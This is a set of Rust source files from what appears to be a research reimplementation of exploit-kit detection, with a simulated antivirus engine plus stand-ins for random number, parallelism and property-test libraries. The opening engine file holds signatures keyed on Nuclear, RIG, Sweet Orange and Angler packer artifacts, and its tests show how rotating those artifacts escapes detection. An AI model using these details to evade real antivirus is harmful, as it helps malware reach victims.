            "{} [{}]: {}",
            self.name,
            self.family,
            self.required_substrings.join(" AND ")
        )
    }
}

/// The simulated commercial AV engine.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
pub struct AvEngine {
    config: AvConfig,
}

impl AvEngine {
    /// Create an engine.
    #[must_use]
    pub fn new(config: AvConfig) -> Self {
        AvEngine { config }
    }

    /// The engine configuration.
    #[must_use]
    pub fn config(&self) -> &AvConfig {
        &self.config
    }

    /// The kit state the analyst had seen by `scan_date`: the state of the
    /// kit `reaction_delay_days` earlier (clamped to the start of the
    /// simulation window).
    #[must_use]
    pub fn analyst_view(&self, family: KitFamily, scan_date: SimDate) -> KitState {
        let mut lag_date = SimDate::evolution_start();
        for candidate in SimDate::evolution_start().range_inclusive(scan_date) {
            if scan_date.days_since(candidate) >= self.config.reaction_delay_days {
                lag_date = candidate;
            }
        }
        KitState::on_date(family, lag_date)
    }

    /// The signatures deployed on `date`.
    #[must_use]
    pub fn signatures_on(&self, date: SimDate) -> Vec<AvSignature> {
        let mut out = Vec::new();
        for family in KitFamily::ALL {
            let state = self.analyst_view(family, date);
            out.push(self.signature_for(&state));
        }
        if self.config.greedy_legacy_signature {
            // A years-old charcode-decoder heuristic: catches RIG-style
            // unpacking loops but also fires on benign entity-decoding
            // helpers, giving the engine its small false-positive floor.
            out.push(AvSignature {
                name: "GEN.heur.charcode".to_string(),
                family: KitFamily::Rig,
                required_substrings: vec![
                    "String.fromCharCode(".to_string(),
                    ".split(".to_string(),
                ],
            });
        }
        out
    }

    /// The hand-written signature an analyst derives from a given kit state.
    ///
    /// Each signature keys on the concrete packer artifact of that state —
    /// which is exactly why it goes stale when the artifact rotates.
    #[must_use]
    pub fn signature_for(&self, state: &KitState) -> AvSignature {
        let name = format!("{}.sig{}", state.family.short_code(), state.version + 1);
        let required_substrings = match state.family {
            KitFamily::Nuclear => vec![
                splice_delimiter("document", &state.delimiter),
                splice_delimiter("eval", &state.delimiter),
            ],
            KitFamily::Rig => vec![
                format!("=\"{}\";", state.delimiter),
                "String.fromCharCode(".to_string(),
                "document.createElement(\"script\")".to_string(),
            ],
            KitFamily::SweetOrange => vec![
                format!(".split(\"{}\")", state.delimiter),
                if state.packer_revision == 0 {
                    "Math.sqrt(0)".to_string()
                } else {
                    "Math.exp(1)".to_string()
                },
            ],
            KitFamily::Angler => {
                if state.java_marker_exposed {
                    // The pre-August-13 signature the paper describes: it
                    // matches the Java exploit string sitting in plain HTML.
                    vec![format!("code=\"{ANGLER_JAVA_MARKER}\"")]
                } else {
                    // The analyst's eventual response: a structural match on
                    // the hex-chunk decoder.
                    vec!["window[\"ev\" + \"al\"]".to_string(), ", 16))".to_string()]
                }
            }
        };
        AvSignature {
            name,
            family: state.family,
            required_substrings,
        }
    }

    /// Scan a document with the signatures deployed on `date`. Returns the
    /// family of the first matching signature.
    #[must_use]
    pub fn scan(&self, date: SimDate, document: &str) -> Option<KitFamily> {
        self.signatures_on(date)
            .into_iter()
            .find(|sig| sig.matches(document))
            .map(|sig| sig.family)
    }
}

impl Default for AvEngine {
    fn default() -> Self {
        AvEngine::new(AvConfig::default())
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use kizzle_corpus::benign::{generate_benign, BenignKind};
    use kizzle_corpus::KitModel;
    use rand::SeedableRng;
    use rand_chacha::ChaCha8Rng;

    fn page(family: KitFamily, month: u32, day: u32, seed: u64) -> String {
        let mut rng = ChaCha8Rng::seed_from_u64(seed);
        KitModel::new(family).generate_sample(SimDate::new(2014, month, day), &mut rng)
    }

    #[test]
    fn detects_stable_kits_on_quiet_days() {
        let engine = AvEngine::default();
        // Early August: no kit changed within the previous 6 days except RIG
        // (which changed on 8/4), so pick 8/3.
        let date = SimDate::new(2014, 8, 3);
        for family in KitFamily::ALL {
            let html = page(family, 8, 3, 11);
            assert_eq!(engine.scan(date, &html), Some(family), "{family}");
        }
    }

    #[test]
    fn angler_window_of_vulnerability_opens_on_august_13() {
        let engine = AvEngine::default();
        // Before the change: detected via the exposed marker.
        let before = page(KitFamily::Angler, 8, 12, 1);
        assert_eq!(
            engine.scan(SimDate::new(2014, 8, 12), &before),
            Some(KitFamily::Angler)
        );
        // Right after the change: the deployed signature still expects the
        // marker, which is gone -> false negative.
        let after = page(KitFamily::Angler, 8, 14, 2);
        assert_eq!(engine.scan(SimDate::new(2014, 8, 14), &after), None);
        // Once the analyst reacts (delay days later), detection resumes.
        let later = page(KitFamily::Angler, 8, 24, 3);
        assert_eq!(
            engine.scan(SimDate::new(2014, 8, 24), &later),
            Some(KitFamily::Angler)
        );
    }

    #[test]
    fn nuclear_delimiter_rotation_causes_a_lagged_gap() {
        let engine = AvEngine::default();
        // Delimiter changed on 8/17 (sa1as) and again on 8/19; on 8/18 the
        // engine still runs the signature for the pre-8/17 delimiter.
        let html = page(KitFamily::Nuclear, 8, 18, 4);
        assert_eq!(engine.scan(SimDate::new(2014, 8, 18), &html), None);
        // A sample from before the rotation is still caught on that date.
        let old_variant = page(KitFamily::Nuclear, 8, 10, 5);
        assert_eq!(
            engine.scan(SimDate::new(2014, 8, 10), &old_variant),
            Some(KitFamily::Nuclear)
        );
    }

    #[test]
    fn reaction_delay_zero_tracks_the_kit_perfectly() {
        let engine = AvEngine::new(AvConfig {
            reaction_delay_days: 0,
            greedy_legacy_signature: false,
        });
        for day in [5u32, 13, 18, 22, 27, 30] {
            for family in KitFamily::ALL {
                let html = page(family, 8, day, u64::from(day));
                assert_eq!(
                    engine.scan(SimDate::new(2014, 8, day), &html),
                    Some(family),
                    "{family} 8/{day}"
                );
            }
        }
    }

    #[test]
    fn greedy_legacy_signature_fires_on_benign_decoder_helpers() {
        let engine = AvEngine::default();
        // The rare benign library variant that bundles an entity-decoding
        // helper (String.fromCharCode over split segments).
        let benign = "<script>function decodeEntities(text) { var parts = text.split(\";\"); \
                      var out = \"\"; for (var i = 0; i < parts.length; i++) { \
                      out += String.fromCharCode(parts[i].slice(2)); } return out; }</script>";
        assert_eq!(
            engine.scan(SimDate::new(2014, 8, 10), benign),
            Some(KitFamily::Rig),
            "the legacy heuristic should produce an AV false positive"
        );
        let strict = AvEngine::new(AvConfig {
            reaction_delay_days: 6,
            greedy_legacy_signature: false,
        });
        assert_eq!(strict.scan(SimDate::new(2014, 8, 10), benign), None);
        // Ordinary library pages (no decoder helper) stay clean.
        let mut rng = ChaCha8Rng::seed_from_u64(9);
        let page = generate_benign(BenignKind::LibraryBoilerplate, &mut rng);
        if !page.contains("decodeEntities") {
            assert_eq!(engine.scan(SimDate::new(2014, 8, 10), &page), None);
        }
    }

    #[test]
    fn other_benign_kinds_are_clean() {
        let engine = AvEngine::default();
        let mut rng = ChaCha8Rng::seed_from_u64(10);
        for kind in [
            BenignKind::PluginDetect,
            BenignKind::Analytics,
            BenignKind::FormGlue,
        ] {
            let benign = generate_benign(kind, &mut rng);
            assert_eq!(
                engine.scan(SimDate::new(2014, 8, 10), &benign),
                None,
                "{kind}"
            );
        }
    }

    #[test]
    fn analyst_view_lags_by_the_configured_delay() {
        let engine = AvEngine::default();
        let view = engine.analyst_view(KitFamily::Nuclear, SimDate::new(2014, 8, 20));
        // 8/20 - 6 days = 8/14: the delimiter change of 8/17 and 8/19 are
        // not yet reflected.
        assert_eq!(
            view,
            KitState::on_date(KitFamily::Nuclear, SimDate::new(2014, 8, 14))
        );
    }

    #[test]
    fn signatures_on_returns_one_per_family_plus_legacy() {
        let engine = AvEngine::default();
        let sigs = engine.signatures_on(SimDate::new(2014, 8, 10));
        assert_eq!(sigs.len(), KitFamily::ALL.len() + 1);
        for family in KitFamily::ALL {
            assert!(sigs.iter().any(|s| s.family == family));
        }
        assert!(sigs.iter().all(|s| !s.required_substrings.is_empty()));
        assert!(sigs[0].to_string().contains("AND") || sigs[0].required_substrings.len() == 1);
    }
}
