//! A real ChaCha8 random number generator implementing the local `rand`
//! stand-in's `RngCore`/`SeedableRng` traits.
//!
//! The core block function is the genuine ChaCha permutation (RFC 8439
//! layout, 8 rounds), so statistical quality matches the upstream
//! `rand_chacha` crate; only the exact output stream of `seed_from_u64`
//! differs (the workspace never depends on upstream's values — the seed
//! repo was never buildable against the real crate).

#![forbid(unsafe_code)]

use rand::{RngCore, SeedableRng};

const BLOCK_WORDS: usize = 16;

/// ChaCha with 8 rounds, keyed by a 32-byte seed.
#[derive(Debug, Clone)]
pub struct ChaCha8Rng {
    /// Input block: constants, key, counter, nonce.
    state: [u32; BLOCK_WORDS],
    /// Current keystream block.
    buffer: [u32; BLOCK_WORDS],
    /// Next unread word of `buffer`; `BLOCK_WORDS` means exhausted.
    index: usize,
}

#[inline]
fn quarter_round(s: &mut [u32; BLOCK_WORDS], a: usize, b: usize, c: usize, d: usize) {
    s[a] = s[a].wrapping_add(s[b]);
    s[d] = (s[d] ^ s[a]).rotate_left(16);
    s[c] = s[c].wrapping_add(s[d]);
    s[b] = (s[b] ^ s[c]).rotate_left(12);
    s[a] = s[a].wrapping_add(s[b]);
    s[d] = (s[d] ^ s[a]).rotate_left(8);
    s[c] = s[c].wrapping_add(s[d]);
    s[b] = (s[b] ^ s[c]).rotate_left(7);
}

impl ChaCha8Rng {
    /// Generate the next keystream block and advance the counter.
    fn refill(&mut self) {
        let mut working = self.state;
        for _ in 0..4 {
            // 8 rounds = 4 double-rounds.
            quarter_round(&mut working, 0, 4, 8, 12);
            quarter_round(&mut working, 1, 5, 9, 13);
            quarter_round(&mut working, 2, 6, 10, 14);
            quarter_round(&mut working, 3, 7, 11, 15);
            quarter_round(&mut working, 0, 5, 10, 15);
            quarter_round(&mut working, 1, 6, 11, 12);
            quarter_round(&mut working, 2, 7, 8, 13);
            quarter_round(&mut working, 3, 4, 9, 14);
        }
        for (out, inp) in working.iter_mut().zip(self.state.iter()) {
            *out = out.wrapping_add(*inp);
        }
        self.buffer = working;
        self.index = 0;
        // 64-bit counter in words 12–13.
        let counter = (u64::from(self.state[13]) << 32 | u64::from(self.state[12])).wrapping_add(1);
        self.state[12] = counter as u32;
        self.state[13] = (counter >> 32) as u32;
    }
}

impl SeedableRng for ChaCha8Rng {
    type Seed = [u8; 32];

    fn from_seed(seed: Self::Seed) -> Self {
        let mut state = [0u32; BLOCK_WORDS];
        // "expand 32-byte k"
        state[0] = 0x6170_7865;
        state[1] = 0x3320_646e;
        state[2] = 0x7962_2d32;
        state[3] = 0x6b20_6574;
        for (i, chunk) in seed.chunks_exact(4).enumerate() {
            state[4 + i] = u32::from_le_bytes(chunk.try_into().expect("4-byte chunk"));
        }
        // Counter and nonce start at zero.
        ChaCha8Rng {
            state,
            buffer: [0; BLOCK_WORDS],
            index: BLOCK_WORDS,
        }
    }
}

impl RngCore for ChaCha8Rng {
    fn next_u32(&mut self) -> u32 {
        if self.index >= BLOCK_WORDS {
            self.refill();
        }
        let word = self.buffer[self.index];
        self.index += 1;
        word
    }

    fn next_u64(&mut self) -> u64 {
        let lo = u64::from(self.next_u32());
        let hi = u64::from(self.next_u32());
        hi << 32 | lo
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn deterministic_for_a_seed() {
        let mut a = ChaCha8Rng::seed_from_u64(42);
        let mut b = ChaCha8Rng::seed_from_u64(42);
        for _ in 0..100 {
            assert_eq!(a.next_u64(), b.next_u64());
        }
    }

    #[test]
    fn different_seeds_diverge() {
        let mut a = ChaCha8Rng::seed_from_u64(1);
        let mut b = ChaCha8Rng::seed_from_u64(2);
        assert!((0..8).any(|_| a.next_u64() != b.next_u64()));
    }

    #[test]
    fn clone_preserves_stream_position() {
        let mut a = ChaCha8Rng::seed_from_u64(9);
        for _ in 0..37 {
            a.next_u32();
        }
        let mut b = a.clone();
        for _ in 0..100 {
            assert_eq!(a.next_u64(), b.next_u64());
        }
    }

    #[test]
    fn output_is_roughly_balanced() {
        // Sanity: bit balance of the keystream (catches a broken permutation).
        let mut rng = ChaCha8Rng::seed_from_u64(1234);
        let ones: u32 = (0..1000).map(|_| rng.next_u64().count_ones()).sum();
        let total = 64_000;
        assert!(
            (total / 2 - 2000..total / 2 + 2000).contains(&ones),
            "ones = {ones}"
        );
    }
}
