//! Minimal local stand-in for the `rayon` API surface this workspace uses:
//! `slice.par_iter().map(f).collect::<Vec<_>>()` (plus `join`), implemented
//! on `std::thread::scope` with dynamic block scheduling.
//!
//! The build environment has no crate-registry access; this crate keeps the
//! real rayon's import paths (`rayon::prelude::*`) so the genuine crate can
//! be swapped in later without source changes. Unlike a naive chunk split,
//! blocks are handed out through an atomic cursor, so uneven per-item cost
//! (e.g. DBSCAN neighborhood queries) still load-balances.

#![forbid(unsafe_code)]

use std::cell::Cell;
use std::sync::atomic::{AtomicUsize, Ordering};

thread_local! {
    /// True on worker threads spawned by [`parallel_map_indexed`]. Real
    /// rayon runs nested parallelism in one shared work-stealing pool;
    /// this shim instead runs nested calls serially on the worker, so an
    /// outer map over P items and an inner map over N items use ~P
    /// threads, not P × N.
    static IN_WORKER: Cell<bool> = const { Cell::new(false) };
}

/// Run two closures, potentially in parallel, and return both results.
pub fn join<A, B, RA, RB>(a: A, b: B) -> (RA, RB)
where
    A: FnOnce() -> RA + Send,
    B: FnOnce() -> RB + Send,
    RA: Send,
    RB: Send,
{
    std::thread::scope(|s| {
        let hb = s.spawn(b);
        let ra = a();
        (ra, hb.join().expect("rayon::join closure panicked"))
    })
}

/// Parallel map over a slice, preserving order. The backbone of the
/// iterator adapters below.
fn parallel_map_indexed<'a, T, R, F>(items: &'a [T], f: F) -> Vec<R>
where
    T: Sync,
    R: Send,
    F: Fn(usize, &'a T) -> R + Sync,
{
    let n = items.len();
    // `KIZZLE_RAYON_THREADS` overrides the pool width — how the benches
    // measure serial vs pooled codec paths on the same machine (real rayon
    // reads RAYON_NUM_THREADS; the kizzle-specific name avoids surprising
    // anyone swapping the genuine crate back in).
    let threads = std::env::var("KIZZLE_RAYON_THREADS")
        .ok()
        .and_then(|v| v.parse::<usize>().ok())
        .filter(|&t| t >= 1)
        .unwrap_or_else(|| {
            std::thread::available_parallelism()
                .map(std::num::NonZeroUsize::get)
                .unwrap_or(1)
        })
        .min(n);
    if threads <= 1 || IN_WORKER.with(Cell::get) {
        return items.iter().enumerate().map(|(i, t)| f(i, t)).collect();
    }
    // Small blocks (≈ 8 per thread) keep uneven work balanced without
    // paying per-item synchronization.
    let block = n.div_ceil(threads * 8).max(1);
    let cursor = AtomicUsize::new(0);
    let mut pieces: Vec<(usize, Vec<R>)> = std::thread::scope(|s| {
        let handles: Vec<_> = (0..threads)
            .map(|_| {
                s.spawn(|| {
                    IN_WORKER.with(|flag| flag.set(true));
                    let mut local: Vec<(usize, Vec<R>)> = Vec::new();
                    loop {
                        let start = cursor.fetch_add(block, Ordering::Relaxed);
                        if start >= n {
                            break;
                        }
                        let end = (start + block).min(n);
                        let vals: Vec<R> = items[start..end]
                            .iter()
                            .enumerate()
                            .map(|(k, t)| f(start + k, t))
                            .collect();
                        local.push((start, vals));
                    }
                    local
                })
            })
            .collect();
        handles
            .into_iter()
            .flat_map(|h| h.join().expect("rayon worker panicked"))
            .collect()
    });
    pieces.sort_unstable_by_key(|(start, _)| *start);
    let mut out = Vec::with_capacity(n);
    for (_, mut vals) in pieces {
        out.append(&mut vals);
    }
    out
}

/// A "parallel iterator" over `&[T]`: a lazy handle that the adapters
/// below consume.
pub struct ParIter<'a, T> {
    items: &'a [T],
}

impl<'a, T: Sync> ParIter<'a, T> {
    /// Map every item through `f` in parallel.
    pub fn map<R, F>(self, f: F) -> ParMap<'a, T, F>
    where
        R: Send,
        F: Fn(&'a T) -> R + Sync,
    {
        ParMap {
            items: self.items,
            f,
        }
    }

    /// Pair every item with its index, mirroring
    /// `IndexedParallelIterator::enumerate`.
    pub fn enumerate(self) -> ParEnumerate<'a, T> {
        ParEnumerate { items: self.items }
    }
}

/// The result of [`ParIter::map`]; terminal `collect` runs the pool.
pub struct ParMap<'a, T, F> {
    items: &'a [T],
    f: F,
}

impl<'a, T, F, R> ParMap<'a, T, F>
where
    T: Sync,
    R: Send,
    F: Fn(&'a T) -> R + Sync,
{
    /// Execute the map in parallel and collect in input order.
    pub fn collect<C: FromIterator<R>>(self) -> C {
        parallel_map_indexed(self.items, |_, t| (self.f)(t))
            .into_iter()
            .collect()
    }
}

/// The result of [`ParIter::enumerate`].
pub struct ParEnumerate<'a, T> {
    items: &'a [T],
}

impl<'a, T: Sync> ParEnumerate<'a, T> {
    /// Map every `(index, item)` pair through `f` in parallel.
    pub fn map<R, F>(self, f: F) -> ParEnumerateMap<'a, T, F>
    where
        R: Send,
        F: Fn((usize, &'a T)) -> R + Sync,
    {
        ParEnumerateMap {
            items: self.items,
            f,
        }
    }
}

/// The result of [`ParEnumerate::map`].
pub struct ParEnumerateMap<'a, T, F> {
    items: &'a [T],
    f: F,
}

impl<'a, T, F, R> ParEnumerateMap<'a, T, F>
where
    T: Sync,
    R: Send,
    F: Fn((usize, &'a T)) -> R + Sync,
{
    /// Execute the map in parallel and collect in input order.
    pub fn collect<C: FromIterator<R>>(self) -> C {
        parallel_map_indexed(self.items, |i, t| (self.f)((i, t)))
            .into_iter()
            .collect()
    }
}

/// Conversion into a parallel iterator by reference, mirroring
/// `rayon::iter::IntoParallelRefIterator`.
pub trait IntoParallelRefIterator<'a> {
    /// Item yielded by the parallel iterator.
    type Item: 'a;
    /// Borrow `self` as a parallel iterator.
    fn par_iter(&'a self) -> ParIter<'a, Self::Item>;
}

impl<'a, T: Sync + 'a> IntoParallelRefIterator<'a> for [T] {
    type Item = T;
    fn par_iter(&'a self) -> ParIter<'a, T> {
        ParIter { items: self }
    }
}

impl<'a, T: Sync + 'a> IntoParallelRefIterator<'a> for Vec<T> {
    type Item = T;
    fn par_iter(&'a self) -> ParIter<'a, T> {
        ParIter { items: self }
    }
}

pub mod prelude {
    //! Glob-import surface mirroring `rayon::prelude`.
    pub use super::IntoParallelRefIterator;
}

#[cfg(test)]
mod tests {
    use super::prelude::*;

    #[test]
    fn map_collect_preserves_order() {
        let input: Vec<u64> = (0..10_000).collect();
        let out: Vec<u64> = input.par_iter().map(|x| x * 2).collect();
        assert_eq!(out, (0..10_000).map(|x| x * 2).collect::<Vec<_>>());
    }

    #[test]
    fn enumerate_map_sees_correct_indices() {
        let input = vec![5u32; 997];
        let out: Vec<usize> = input.par_iter().enumerate().map(|(i, _)| i).collect();
        assert_eq!(out, (0..997).collect::<Vec<_>>());
    }

    #[test]
    fn empty_input() {
        let input: Vec<u8> = Vec::new();
        let out: Vec<u8> = input.par_iter().map(|x| *x).collect();
        assert!(out.is_empty());
    }

    #[test]
    fn join_returns_both() {
        let (a, b) = super::join(|| 1 + 1, || "x".repeat(3));
        assert_eq!(a, 2);
        assert_eq!(b, "xxx");
    }

    #[test]
    fn nested_par_iter_stays_correct_and_bounded() {
        // The inner map must run serially on the outer worker (no
        // multiplicative thread spawn) and still produce ordered results.
        let outer: Vec<u32> = (0..64).collect();
        let out: Vec<u32> = outer
            .par_iter()
            .map(|&x| {
                let inner: Vec<u32> = (0..32).collect();
                let sums: Vec<u32> = inner.par_iter().map(|&y| x + y).collect();
                assert_eq!(sums, (0..32).map(|y| x + y).collect::<Vec<_>>());
                sums.iter().sum()
            })
            .collect();
        let expected: Vec<u32> = (0..64).map(|x| (0..32).map(|y| x + y).sum()).collect();
        assert_eq!(out, expected);
    }
}
