//! Minimal local stand-in for the `proptest` crate.
//!
//! Implements the subset of the proptest 1.x API this workspace's property
//! tests use: the `proptest!` macro with optional
//! `#![proptest_config(ProptestConfig::with_cases(n))]`, `prop_assert!` /
//! `prop_assert_eq!`, integer-range strategies, `any::<T>()`,
//! `prop::collection::vec`, and regex-literal string strategies (a small
//! generator covering classes, groups, alternation, `\PC`, and the
//! `* + ? {n} {n,m}` quantifiers).
//!
//! Differences from real proptest, deliberately accepted: no shrinking (a
//! failing case prints its case number and seed to stderr while the panic
//! unwinds, and deterministic seeding means re-running the test replays
//! it), and deterministic per-case seeding rather than an OS-random seed —
//! every run exercises the same cases, which suits CI.

#![forbid(unsafe_code)]

pub mod strategy;
pub mod string;
pub mod test_runner;

pub mod arbitrary {
    //! `any::<T>()` support.

    use crate::strategy::Strategy;
    use crate::test_runner::TestRng;
    use rand::RngCore;
    use std::marker::PhantomData;

    /// Types with a canonical "anything" strategy.
    pub trait Arbitrary: Sized {
        /// Draw an unconstrained value.
        fn arbitrary(rng: &mut TestRng) -> Self;
    }

    macro_rules! impl_arbitrary_int {
        ($($t:ty),*) => {$(
            impl Arbitrary for $t {
                #[allow(clippy::cast_possible_truncation, clippy::cast_lossless)]
                fn arbitrary(rng: &mut TestRng) -> Self {
                    rng.inner().next_u64() as $t
                }
            }
        )*};
    }
    impl_arbitrary_int!(u8, u16, u32, u64, usize, i8, i16, i32, i64, isize);

    impl Arbitrary for bool {
        fn arbitrary(rng: &mut TestRng) -> Self {
            rng.inner().next_u64() & 1 == 1
        }
    }

    /// The strategy returned by [`any`].
    pub struct Any<T>(PhantomData<T>);

    impl<T: Arbitrary> Strategy for Any<T> {
        type Value = T;
        fn sample(&self, rng: &mut TestRng) -> T {
            T::arbitrary(rng)
        }
    }

    /// A strategy producing unconstrained values of `T`.
    #[must_use]
    pub fn any<T: Arbitrary>() -> Any<T> {
        Any(PhantomData)
    }
}

pub mod collection {
    //! Collection strategies (`prop::collection::vec`).

    use crate::strategy::Strategy;
    use crate::test_runner::TestRng;
    use rand::Rng;
    use std::ops::Range;

    /// Something usable as the size argument of [`vec()`]: an exact size or a
    /// half-open range.
    pub trait SizeRange {
        /// Draw a concrete length.
        fn pick(&self, rng: &mut TestRng) -> usize;
    }

    impl SizeRange for usize {
        fn pick(&self, _rng: &mut TestRng) -> usize {
            *self
        }
    }

    impl SizeRange for Range<usize> {
        fn pick(&self, rng: &mut TestRng) -> usize {
            if self.start >= self.end {
                self.start
            } else {
                rng.inner().gen_range(self.start..self.end)
            }
        }
    }

    /// The strategy returned by [`vec()`].
    pub struct VecStrategy<S, L> {
        element: S,
        size: L,
    }

    impl<S: Strategy, L: SizeRange> Strategy for VecStrategy<S, L> {
        type Value = Vec<S::Value>;
        fn sample(&self, rng: &mut TestRng) -> Self::Value {
            let len = self.size.pick(rng);
            (0..len).map(|_| self.element.sample(rng)).collect()
        }
    }

    /// A strategy producing vectors whose elements come from `element` and
    /// whose length comes from `size`.
    pub fn vec<S: Strategy, L: SizeRange>(element: S, size: L) -> VecStrategy<S, L> {
        VecStrategy { element, size }
    }
}

pub mod prop {
    //! The `prop::` namespace used inside `proptest!` bodies.
    pub use crate::collection;
}

pub mod prelude {
    //! Glob-import surface mirroring `proptest::prelude`.
    pub use crate::arbitrary::any;
    pub use crate::prop;
    pub use crate::strategy::{Just, Strategy};
    pub use crate::test_runner::ProptestConfig;
    pub use crate::{prop_assert, prop_assert_eq, prop_assert_ne, proptest};
}

/// Property assertion; panics with the case context on failure.
#[macro_export]
macro_rules! prop_assert {
    ($($tt:tt)*) => { assert!($($tt)*) };
}

/// Property equality assertion; panics with the case context on failure.
#[macro_export]
macro_rules! prop_assert_eq {
    ($($tt:tt)*) => { assert_eq!($($tt)*) };
}

/// Property inequality assertion; panics with the case context on failure.
#[macro_export]
macro_rules! prop_assert_ne {
    ($($tt:tt)*) => { assert_ne!($($tt)*) };
}

/// Define property tests. Each `fn name(binding in strategy, ...) { body }`
/// becomes a `#[test]` running `body` over `config.cases` sampled inputs.
#[macro_export]
macro_rules! proptest {
    (#![proptest_config($config:expr)] $($rest:tt)*) => {
        $crate::proptest!(@run ($config); $($rest)*);
    };
    (@run ($config:expr); $(
        $(#[$meta:meta])*
        fn $name:ident ( $( $arg:ident in $strat:expr ),* $(,)? ) $body:block
    )*) => {$(
        $(#[$meta])*
        fn $name() {
            let config: $crate::test_runner::ProptestConfig = $config;
            for case in 0..config.cases {
                let mut rng = $crate::test_runner::TestRng::for_case(
                    concat!(module_path!(), "::", stringify!($name)),
                    case,
                );
                $( let $arg = $crate::strategy::Strategy::sample(&($strat), &mut rng); )*
                let _guard = $crate::test_runner::CaseGuard::new(
                    concat!(module_path!(), "::", stringify!($name)),
                    case,
                );
                $body
            }
        }
    )*};
    ($($rest:tt)*) => {
        $crate::proptest!(@run ($crate::test_runner::ProptestConfig::default()); $($rest)*);
    };
}
