//! A small regex-driven string generator backing the `"[a-z]{1,8}"`-style
//! strategies real proptest supports.
//!
//! Supported syntax (the subset this workspace's tests use): literal
//! characters, character classes `[...]` with ranges and a literal trailing
//! `-`, groups `(...)`, top-level and in-group alternation `|`, the
//! quantifiers `*`, `+`, `?`, `{n}`, `{n,m}`, and `\PC` (any
//! non-control character). Unsupported syntax panics with the offending
//! pattern so a new test fails loudly instead of sampling garbage.

use crate::test_runner::TestRng;
use rand::Rng;

/// Upper repetition bound substituted for the unbounded `*`/`+`.
const UNBOUNDED_MAX: usize = 64;

/// Non-ASCII printable characters occasionally emitted by `\PC` so UTF-8
/// handling gets exercised.
const MULTIBYTE: [char; 6] = ['é', 'ß', 'λ', 'Ж', '中', '€'];

#[derive(Debug, Clone)]
enum Node {
    /// Ordered alternatives; each alternative is a sequence of quantified
    /// atoms `(atom, min, max)`.
    Alt(Vec<Vec<(Node, usize, usize)>>),
    /// Inclusive character ranges.
    Class(Vec<(char, char)>),
    /// A single literal character.
    Literal(char),
    /// `\PC`: any printable character.
    Printable,
}

struct Parser<'a> {
    pattern: &'a str,
    chars: std::iter::Peekable<std::str::Chars<'a>>,
}

impl<'a> Parser<'a> {
    fn new(pattern: &'a str) -> Self {
        Parser {
            pattern,
            chars: pattern.chars().peekable(),
        }
    }

    fn unsupported(&self, what: &str) -> ! {
        panic!(
            "proptest stand-in: unsupported regex {what} in pattern {:?}",
            self.pattern
        )
    }

    /// Parse alternatives until end of input or an unconsumed `)`.
    fn alternation(&mut self) -> Node {
        let mut alts = vec![Vec::new()];
        while let Some(&c) = self.chars.peek() {
            match c {
                ')' => break,
                '|' => {
                    self.chars.next();
                    alts.push(Vec::new());
                }
                _ => {
                    let atom = self.atom();
                    let (min, max) = self.quantifier();
                    alts.last_mut()
                        .expect("at least one alternative")
                        .push((atom, min, max));
                }
            }
        }
        Node::Alt(alts)
    }

    fn atom(&mut self) -> Node {
        match self.chars.next().expect("atom expected") {
            '(' => {
                let inner = self.alternation();
                match self.chars.next() {
                    Some(')') => inner,
                    _ => self.unsupported("unclosed group"),
                }
            }
            '[' => self.class(),
            '\\' => match self.chars.next() {
                Some('P') | Some('p') => {
                    // `\PC` / `\p{...}`-style: consume the category name.
                    match self.chars.next() {
                        Some('{') => while self.chars.next().is_some_and(|c| c != '}') {},
                        Some(_) => {}
                        None => self.unsupported("dangling \\P"),
                    }
                    Node::Printable
                }
                Some(
                    c @ ('.' | '(' | ')' | '[' | ']' | '{' | '}' | '|' | '*' | '+' | '?' | '\\'
                    | '-' | '^' | '$'),
                ) => Node::Literal(c),
                Some('n') => Node::Literal('\n'),
                Some('t') => Node::Literal('\t'),
                other => self.unsupported(&format!("escape \\{other:?}")),
            },
            '.' => Node::Printable,
            c @ ('*' | '+' | '?' | '{') => self.unsupported(&format!("dangling quantifier {c:?}")),
            c => Node::Literal(c),
        }
    }

    /// Parse `[...]` after the opening bracket has been consumed.
    fn class(&mut self) -> Node {
        let mut ranges: Vec<(char, char)> = Vec::new();
        if self.chars.peek() == Some(&'^') {
            self.unsupported("negated class");
        }
        let mut pending: Option<char> = None;
        loop {
            match self.chars.next() {
                None => self.unsupported("unclosed class"),
                Some(']') => {
                    if let Some(p) = pending {
                        ranges.push((p, p));
                    }
                    break;
                }
                Some('-') => {
                    // Range if between two chars, literal otherwise.
                    match (pending.take(), self.chars.peek()) {
                        (Some(lo), Some(&hi)) if hi != ']' => {
                            self.chars.next();
                            assert!(lo <= hi, "empty class range in {:?}", self.pattern);
                            ranges.push((lo, hi));
                        }
                        (prev, _) => {
                            if let Some(p) = prev {
                                ranges.push((p, p));
                            }
                            pending = Some('-');
                        }
                    }
                }
                Some('\\') => {
                    let c = self
                        .chars
                        .next()
                        .unwrap_or_else(|| self.unsupported("dangling class escape"));
                    if let Some(p) = pending.replace(c) {
                        ranges.push((p, p));
                    }
                }
                Some(c) => {
                    if let Some(p) = pending.replace(c) {
                        ranges.push((p, p));
                    }
                }
            }
        }
        if ranges.is_empty() {
            self.unsupported("empty class");
        }
        Node::Class(ranges)
    }

    /// Parse an optional quantifier; defaults to exactly one.
    fn quantifier(&mut self) -> (usize, usize) {
        match self.chars.peek() {
            Some('*') => {
                self.chars.next();
                (0, UNBOUNDED_MAX)
            }
            Some('+') => {
                self.chars.next();
                (1, UNBOUNDED_MAX)
            }
            Some('?') => {
                self.chars.next();
                (0, 1)
            }
            Some('{') => {
                self.chars.next();
                let min = self.number();
                let max = match self.chars.peek() {
                    Some(',') => {
                        self.chars.next();
                        self.number()
                    }
                    _ => min,
                };
                match self.chars.next() {
                    Some('}') => (min, max),
                    _ => self.unsupported("unclosed quantifier"),
                }
            }
            _ => (1, 1),
        }
    }

    fn number(&mut self) -> usize {
        let mut n: usize = 0;
        let mut any = false;
        while let Some(&c) = self.chars.peek() {
            if let Some(d) = c.to_digit(10) {
                self.chars.next();
                n = n * 10 + d as usize;
                any = true;
            } else {
                break;
            }
        }
        if !any {
            self.unsupported("quantifier without a count");
        }
        n
    }
}

fn generate(node: &Node, rng: &mut TestRng, out: &mut String) {
    match node {
        Node::Alt(alts) => {
            let pick = rng.inner().gen_range(0..alts.len());
            for (atom, min, max) in &alts[pick] {
                let count = if min == max {
                    *min
                } else {
                    rng.inner().gen_range(*min..=*max)
                };
                for _ in 0..count {
                    generate(atom, rng, out);
                }
            }
        }
        Node::Class(ranges) => {
            let total: u32 = ranges
                .iter()
